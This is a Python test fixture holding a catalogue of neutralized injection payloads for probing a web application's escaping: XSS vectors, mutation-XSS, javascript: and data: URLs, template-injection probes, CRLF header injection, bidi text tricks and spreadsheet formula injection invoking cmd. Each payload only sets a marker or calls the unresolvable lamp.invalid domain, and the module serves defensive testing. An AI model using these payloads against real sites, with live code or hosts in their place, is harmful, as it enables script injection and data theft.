"""What somebody writes who wants a page of ours to run it. All of it is neutral: at worst a lamp is lit.

Owns: `PAYLOADS`, by a short name; the forms that fields with a shape of their own take them in.
Promises: whatever ran would set `window.lamp`, open a dialog, ask for an address under `lamp.invalid`, or leave an
element or attribute of `FOREIGN` in the page.
Never does: reach another machine: `.invalid` has no address (RFC 6761).
"""

import re

_HTML = {
    "script": "<script>window.lamp=1</script>",
    "script-upper": "<ScRiPt >window.lamp=1</sCrIpT >",
    "script-src": "<script src=//lamp.invalid/x.js></script>",
    "script-module": '<script type=module>import "//lamp.invalid/x.js"</script>',
    "out-of-attribute": '"><script>window.lamp=1</script>',
    "out-of-attribute-single": "'><img src=x onerror=window.lamp=1>",
    "attribute-double": '" autofocus onfocus=window.lamp=1 x="',
    "attribute-single": "' onmouseover=window.lamp=1 autofocus onfocus=window.lamp=1 x='",
    "attribute-back-tick": "` onfocus=window.lamp=1 autofocus x=`",
    "img": '<img src=x onerror="window.lamp=1">',
    "img-slashes": "<img/src=x/onerror=window.lamp=1>",
    "img-unclosed": "<img src=x onerror=window.lamp=1 //",
    "img-remote": "<img src=//lamp.invalid/seen.png>",
    "svg": "<svg onload=window.lamp=1>",
    "svg-script": "<svg><script>window.lamp=1</script></svg>",
    "svg-animate": "<svg><animate onbegin=window.lamp=1 attributeName=x dur=1s>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.lamp=1 />#x'></svg>",
    "math": "<math><maction actiontype=statusline xlink:href=javascript:window.lamp=1>lamp</maction></math>",
    "details": "<details open ontoggle=window.lamp=1>",
    "video": "<video><source onerror=window.lamp=1></video>",
    "body": "<body onload=window.lamp=1>",
    "marquee": "<marquee onstart=window.lamp=1>lamp</marquee>",
    "input": "<input autofocus onfocus=window.lamp=1>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.lamp=1</script>'></iframe>",
    "iframe-src": "<iframe src=javascript:parent.lamp=1></iframe>",
    "object": "<object data=javascript:window.lamp=1></object>",
    "embed": "<embed src='data:image/svg+xml,<svg onload=window.lamp=1>'>",
    "base": "<base href=//lamp.invalid/>",
    "meta": '<meta http-equiv=refresh content="0;url=//lamp.invalid/">',
    "link": "<link rel=stylesheet href=//lamp.invalid/x.css>",
    "style": "<style>@import '//lamp.invalid/x.css';</style>",
    "style-attribute": "<i style='background:url(//lamp.invalid/x.png);position:fixed;inset:0'>lamp</i>",
    "form": "<form action=//lamp.invalid/><button formaction=//lamp.invalid/ autofocus>lamp</button></form>",
    "dangling": "<img src='//lamp.invalid/?",
    "clobber": "<form id=summary><input name=getElementById></form><i id=preview></i>",
    "template-shadow": "<div><template shadowrootmode=open><script>window.lamp=1</script></template></div>",
    "custom-element": "<x-lamp onclick=window.lamp=1 data-open=keys data-key=a>lamp</x-lamp>",
    "conditional": "<!--[if gte IE 4]><script>window.lamp=1</script><![endif]-->",
    "nested": "<scr<script>ipt>window.lamp=1</scr</script>ipt>",
    "odd-white-space": "<img\u000bsrc=x\u000conerror=window.lamp=1>",
    "fullwidth": "\uff1cscript\uff1ewindow.lamp=1\uff1c/script\uff1e",
    "entities": "&lt;script&gt;window.lamp=1&lt;/script&gt;&#60;i&#62;&amp;amp;",
}
_OUT_OF_PLACE = {
    "title": "</title><script>window.lamp=1</script>",
    "textarea": "</textarea><script>window.lamp=1</script>",
    "select": "</option></select><img src=x onerror=window.lamp=1>",
    "script-end": "</script><script>window.lamp=1</script>",
    "comment": "--><script>window.lamp=1</script>",
    "cdata": "]]><script>window.lamp=1</script>",
    "bdi": "</bdi></blockquote></section><script>window.lamp=1</script>",
}
_MUTATING = {
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.lamp=1>">',
    "mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=lamp=1 src&gt;">',
    "form-in-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.lamp=1>",
    "svg-style": '<svg></p><style><a id="</style><img src=x onerror=window.lamp=1>">',
    "xmp": "<listing>&lt;img src=x onerror=window.lamp=1&gt;</listing><xmp></xmp><img src=x onerror=window.lamp=1>",
}
_ADDRESSES = {
    "javascript": "javascript:window.lamp=1",
    "javascript-mixed": "JaVaScRiPt:window.lamp=1//https://agora.example/",
    "javascript-spaced": "\u0001 javascript:window.lamp=1",
    "data": "data:text/html,<script>opener.lamp=1</script>",
    "vbscript": "vbscript:lamp",
    "blob": "blob:https://lamp.invalid/1",
}
_TEMPLATES = {
    "jinja": "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "jinja-statement": "{% for lamp in range(9) %}lamp{% endfor %}{# lamp #}",
    "other-templates": "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "percent": "%(lamp)s %s %n %% {0.__class__} {lamp}",
}
_TEXT = {
    "bidi-override": "\u202egnp.pmal\u2066 lamp",
    "bidi-isolate": "\u2067lamp \u2068\u202dpmal",
    "bidi-marks": "\u200f\u200elamp\u061c",
    "zero-width": "l\u200ba\u200cm\u200dp\ufeff",
    "combining": "l" + "\u0301" * 40 + "amp",
    "tags": "lamp\U000e0041\U000e0042",
    "header": "lamp\r\nSet-Cookie: lamp=1\r\nLocation: //lamp.invalid/",
    "formula": '=HYPERLINK("http://lamp.invalid/","lamp")',
    "formula-plus": "+1+cmd|' /C lamp'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C lamp'!A0",
}

PAYLOADS: dict[str, str] = _HTML | _OUT_OF_PLACE | _MUTATING | _ADDRESSES | _TEMPLATES | _TEXT

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""Controls that turn what stands after them; the marks turn nothing but themselves."""

FOREIGN = (
    "x-lamp", "iframe", "object", "embed", "base", "marquee", "meta[http-equiv]", "math", "template", "xmp", "listing",
    "noscript", "style", "[style]", "[srcdoc]", "[shadowrootmode]",
    "script:not([type=module][src^='/static/'])", "img:not([src^='/console/']):not([data-src^='/console/'])",
    "link:not([href^='/static/'])", "a[href*='lamp.invalid']:not([href^='mailto:'])",
    "[src*='lamp.invalid'], [action*='lamp.invalid']",
    "[formaction*='lamp']", "a[href^='javascript:' i], a[href^='data:' i], a[href^='vbscript:' i], a[href^='blob:' i]",
)  # fmt: skip
"""What no template of ours writes."""


def as_email(payload: str) -> str:
    """With one @ and no space: what passes for an e-mail address."""
    return re.sub(r"[\s@]+", "/", payload) + "@lamp.example"


def as_word(payload: str) -> str:
    """On one line, as names of entries, labels and the like are kept."""
    return " ".join(payload.split())
